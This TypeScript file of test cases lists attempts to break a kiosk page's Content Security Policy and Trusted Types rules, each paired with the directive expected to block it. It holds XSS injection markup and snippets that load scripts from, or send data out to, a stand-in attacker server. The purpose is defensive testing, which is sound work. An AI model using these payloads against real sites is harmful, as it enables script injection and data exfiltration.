/** One try to make the kiosk's page do what it should not. */
export interface PageAttack {
  readonly name: string;
  /** What of the policy must say no, as the browser reports it. */
  readonly directive: string;
  /**
   * Script of somebody who got that far. `at` is his own server; `add(tag, attributes)` puts an element
   * into the page; whatever sets `window.hacked` has won.
   */
  readonly code: string;
}

const attack = (name: string, directive: string, code: string): PageAttack => ({
  name,
  directive,
  code,
});

const SCRIPTS: readonly PageAttack[] = [
  attack("eval", "require-trusted-types-for", "(0, eval)('window.hacked = 1')"),
  attack(
    "a function made of text",
    "require-trusted-types-for",
    "new Function('window.hacked = 1')()",
  ),
  attack("a timer given text", "require-trusted-types-for", "setTimeout('window.hacked = 1', 0)"),
  attack(
    "an inline script",
    "require-trusted-types-for",
    "const s = document.createElement('script'); s.textContent = 'window.hacked = 1'; document.body.append(s)",
  ),
  attack(
    "a script from elsewhere",
    "require-trusted-types-for",
    "const s = document.createElement('script'); s.src = at + '/a.js'; document.body.append(s)",
  ),
  attack("a script by attribute", "script-src-elem", "import(at + '/a.js').catch(() => {})"),
  attack(
    "a script in its own address",
    "script-src-elem",
    "import('data:text/javascript,window.hacked=1').catch(() => {})",
  ),
  attack(
    "text that becomes markup",
    "require-trusted-types-for",
    "document.body.innerHTML += '<b>'",
  ),
  attack("a policy that lets it through", "trusted-types", "trustedTypes.createPolicy('p', {})"),
  attack(
    "an inline handler",
    "require-trusted-types-for",
    "add('b', {}).setAttribute('onclick', '1')",
  ),
  attack(
    "a script's own address",
    "script-src-elem",
    "location.href = 'javascript:window.hacked = 1'",
  ),
  attack(
    "a worker",
    "require-trusted-types-for",
    "new Worker(URL.createObjectURL(new Blob(['1'])))",
  ),
  attack(
    "a worker that outlives the page",
    "require-trusted-types-for",
    "navigator.serviceWorker.register('/a.js').catch(() => {})",
  ),
];

const THINGS_TO_LOAD: readonly PageAttack[] = [
  attack("an image from elsewhere", "img-src", "add('img', { src: at + '/pixel.png' })"),
  attack(
    "an image in its own address",
    "img-src",
    "add('img', { src: 'data:image/gif;base64,R0=' })",
  ),
  attack(
    "a style sheet from elsewhere",
    "style-src-elem",
    "add('link', { rel: 'stylesheet', href: at + '/a.css' })",
  ),
  attack("an inline style", "style-src-attr", "add('b', { style: 'position: fixed' })"),
  attack(
    "an inline style sheet",
    "style-src-elem",
    "add('style', {}).textContent = 'b { color: red }'",
  ),
  attack(
    "a font from elsewhere",
    "font-src",
    "new FontFace('f', 'url(' + at + '/f.woff2)').load().catch(() => {})",
  ),
  attack(
    "a sound from elsewhere",
    "media-src",
    "add('audio', { src: at + '/a.mp3', preload: 'auto' })",
  ),
  attack(
    "a plug-in",
    "require-trusted-types-for",
    "add('object', { data: at + '/movie', type: 'text/html' })",
  ),
  attack("a look ahead", "default-src", "add('link', { rel: 'prefetch', href: at + '/next' })"),
  attack("a frame from elsewhere", "frame-src", "add('iframe', { src: at + '/frame' })"),
  attack("a frame of the page itself", "frame-src", "add('iframe', { src: '/' })"),
];

const WAYS_OUT: readonly PageAttack[] = [
  attack("a request elsewhere", "connect-src", "fetch(at + '/f').catch(() => {})"),
  attack(
    "an old request elsewhere",
    "connect-src",
    "const x = new XMLHttpRequest(); x.open('POST', at + '/x'); x.send('data')",
  ),
  attack("a beacon", "connect-src", "navigator.sendBeacon(at + '/b', 'data')"),
  attack("a socket elsewhere", "connect-src", "new WebSocket(at.replace('http', 'ws'))"),
  attack(
    "a fast line elsewhere",
    "connect-src",
    "new WebTransport(at.replace('http:', 'https:')).ready.catch(() => {})",
  ),
  attack("a ping of a link", "connect-src", "add('a', { href: '#x', ping: at + '/ping' }).click()"),
  attack("a stream from elsewhere", "connect-src", "new EventSource(at + '/e')"),
  attack(
    "a form sent elsewhere",
    "form-action",
    "add('form', { action: at + '/p', method: 'post' }).submit()",
  ),
  attack(
    "a form sent to the page's own server",
    "form-action",
    "add('form', { action: '/restock', method: 'post' }).submit()",
  ),
  attack("another base for all addresses", "base-uri", "add('base', { href: at + '/' })"),
];

export const PAGE_ATTACKS: readonly PageAttack[] = [...SCRIPTS, ...THINGS_TO_LOAD, ...WAYS_OUT];

/** What somebody who got text into the document itself would put there. */
export const PLANTED_MARKUP = (at: string): string => `
  <script>window.hacked = "inline script"</script>
  <script src="${at}/a.js"></script>
  <img src="x" onerror="window.hacked = 'handler'">
  <iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
  <style>html { display: none }</style>
  <object data="${at}/movie"></object>
  <img src="${at}/pixel.png"><link rel="stylesheet" href="${at}/a.css">
  <base href="${at}/">`;
